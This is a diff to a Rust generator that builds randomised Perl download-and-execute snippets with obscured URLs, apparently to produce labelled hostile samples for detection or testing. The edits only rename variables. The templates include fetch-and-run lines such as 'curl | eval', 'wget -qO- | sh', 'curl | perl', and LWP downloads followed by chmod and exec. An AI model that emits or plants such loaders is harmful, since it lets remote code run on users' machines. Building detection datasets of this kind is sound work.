@@ -381,7 +381,7 @@ fn one_line(dice: &mut Dice, truth: &mut Truth) -> String {
     let (before, word) = hidden(dice, &url);
     match dice.below(5) {
         0 => format!("{before}use LWP::Simple;eval get({word});\n"),
-        1 => format!("{before}eval `curl -s @{{[{word}]}}`;\n"),
+        1 => format!("{before}my $u={word};eval `curl -s $u`;\n"),
         2 => format!("{before}system('wget -qO- ' . {word} . ' | sh');\n"),
         3 => format!("{before}exec(\"/bin/sh\",\"-c\",\"curl -fsSL \".{word}.\"|perl\");\n"),
         _ => format!(
@@ -401,7 +401,7 @@ fn agent_object(dice: &mut Dice, truth: &mut Truth) -> String {
             "#!/usr/bin/perl\nuse strict;\nuse warnings;\nuse LWP::UserAgent;\n{before}\nmy $ua = LWP::UserAgent->new(timeout => 30, agent => '{agent}', ssl_opts => {{ verify_hostname => 0 }});\nmy $r = $ua->get({word}, ':content_file' => './{file}');\nif ($r->is_success) {{\n    chmod 0700, './{file}';\n    system('./{file}') == 0 or exit 1;\n}}\n"
         ),
         1 => format!(
-            "use LWP::UserAgent;\nuse HTTP::Request;\n{before}my $b = LWP::UserAgent->new;\n$b->agent('{agent}');\nmy $req = HTTP::Request->new(GET => {word});\n$req->header('Accept' => '*/*');\nmy $res = $b->request($req);\neval $res->content if $res->is_success;\n"
+            "use LWP::UserAgent;\nuse HTTP::Request;\n{before}my $ua = LWP::UserAgent->new;\n$ua->agent('{agent}');\nmy $req = HTTP::Request->new(GET => {word});\n$req->header('Accept' => '*/*');\nmy $res = $ua->request($req);\neval $res->content if $res->is_success;\n"
         ),
         _ => format!(
             "#!/usr/bin/perl\nrequire LWP::UserAgent;\n{before}my $m = new LWP::UserAgent;\n$m->mirror({word}, '{file}');\nchmod(0755, '{file}');\nexec('./{file}');\n"
